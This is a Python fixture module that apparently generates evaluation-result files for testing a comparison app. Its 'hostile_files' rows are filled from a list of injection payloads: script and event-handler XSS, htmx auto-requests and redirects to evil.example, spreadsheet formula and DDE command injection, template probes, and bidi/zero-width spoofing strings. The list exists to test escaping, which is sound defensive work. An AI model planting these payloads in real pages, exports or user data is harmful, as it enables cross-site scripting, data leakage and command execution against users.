"""Result files for the journeys: real ones where they lie beside the project, else cut from our own demo."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path
from typing import Any

from config.demo import DATA

SHARED = Path(__file__).resolve().parents[3] / "shared" / "data"
MAPPING = DATA / "mapping.json"
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/pixel.png)",
    '<a href="javascript:alert(1)">link</a>',
    '<div hx-get="https://evil.example/" hx-trigger="load">part</div>',
    '<button hx-post="/sign-out/" hx-trigger="load" data-open="keys">out</button>',
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "{{ 7|add:7 }} {% debug %} ${7*7}",
    "<style>* { display: none }</style>",
    '<iframe src="//evil.example/"></iframe>',
    "invoice\u202egpj.exe\u202c \u2066left\u2069 zero\u200bwidth",
    '=HYPERLINK("http://evil.example/","x")',
    "+1+1|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1)",
    "\t=1",
    "</textarea></title></script><script>alert(1)</script>",
    '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<details open ontoggle=alert(1)>",
    "<https://evil.example/?q=1> and `code` **bold**",
)

UNSEEN = re.compile("[\t\u200b\u202a-\u202e\u2066-\u2069]")


def demo_rows(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (DATA / f"helpdesk-{name}.jsonl").read_text().splitlines()]


def write(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows))
    return path


def wide_file(folder: Path) -> tuple[Path, tuple[str, str], str]:
    """One file with both subjects in every row: its path, baseline and candidate, and what the sentence must say."""
    real = SHARED / "gsm8k_openai" / "example_model_solutions.jsonl"
    if real.is_file():
        return real, ("175b_finetuning", "175b_verification"), "21.5 points more often"
    sides = [
        {row["case"]: row for row in demo_rows(name) if row["repetition"] == 1 and isinstance(row["resolved"], bool)}
        for name in ("1.3", "2.0")
    ]
    rows = [
        {
            "question": sides[0][case]["message"],
            "ground_truth": sides[0][case]["expected"],
            **{
                arm: {"is_correct": side[case]["resolved"], "solution": side[case]["answer"]}
                for arm, side in zip(("old_desk", "new_desk"), sides, strict=True)
            },
        }
        for case in sides[0]
        if case in sides[1]
    ]
    return write(folder / "solutions.jsonl", rows), ("old_desk", "new_desk"), "cases scored on both sides"


def two_files(folder: Path, left_out: int = 0) -> tuple[list[Path], str]:
    """Two files of two runs, and the mapping they need; without some last rows they are other runs."""
    real = sorted((SHARED / "taubench_retail").glob("*.json"))
    if len(real) == 2:
        if not left_out:
            return real, ""
        for path in real:
            (folder / path.name).write_text(json.dumps(json.loads(path.read_text())[:-left_out]))
        return [folder / path.name for path in real], ""
    files = [write(folder / f"helpdesk-{name}.jsonl", demo_rows(name)[: 100 - left_out]) for name in ("1.3", "2.0")]
    return files, MAPPING.read_text()


def two_hundred_cases(folder: Path) -> list[Path]:
    """Two arms over 200 cases with failures and abstentions, in the demo's format."""
    draw = random.Random(200)
    files = []
    for arm, rate in (("router-a", 0.8), ("router-b", 0.7)):
        rows = []
        for number in range(200):
            row = {
                "case": f"R-{number:03}",
                "repetition": 1,
                "subject": arm,
                "model": arm,
                "prompt": "routing",
                "language": "en",
                "title": f"Route a request to the right desk, number {number}",
                "tags": ["routing", "long-tail"],
                "message": f"Request {number}",
                "expected": "The right desk.",
                "status": "completed",
                "answer": f"Desk {number % 7} takes request {number}.",
                "latency_ms": draw.randint(300, 3000),
                "cost_usd": 0.002,
                "resolved": draw.random() < rate,
                "tone": draw.randint(1, 5),
                "topic": "delivery",
            }
            if number % 41 == 7:
                row = {
                    name: value for name, value in row.items() if name not in ("answer", "resolved", "tone", "topic")
                }
                row["status"] = ("timed_out", "provider_error", "crashed")[number % 3]
            elif number % 37 == 5:
                row["resolved"] = "abstained"
            rows.append(row)
        files.append(write(folder / f"{arm}.jsonl", rows))
    return files


def hostile_files(folder: Path) -> list[Path]:
    """Two runs in which every text that a file may bring is hostile, in the demo's format."""
    files = []
    for arm, off in (("<img src=x onerror=alert(1)> 1", 0), ("<b hx-get=/>2</b>", 1)):
        rows = []
        for number, text in enumerate(HOSTILE):
            turned = HOSTILE[(number + 1) % len(HOSTILE)]
            row = {
                "case": UNSEEN.sub("", text),  # names and ids may not hold what cannot be seen
                "repetition": 1,
                "subject": arm,
                "model": UNSEEN.sub("", text),
                "prompt": UNSEEN.sub("", turned),
                "language": "en",
                "title": text,
                "tags": [text, turned],
                "message": f"{text}\n\n{turned}",
                "expected": turned,
                "status": "completed",
                "answer": f"{HOSTILE[(number + 2 + off) % len(HOSTILE)]}\n\n{text}",
                "resolved": (number + off) % 3 > 0,
                "resolved_why": f"{text} {turned}",
                "tone": 3,
                "topic": "delivery",
            }
            if number % 9 == 4 and off:
                row |= {"resolved": None, "resolved_error": text}
            rows.append(row)
        files.append(write(folder / f"<img src=x onerror=alert({off})>.jsonl", rows))
    return files
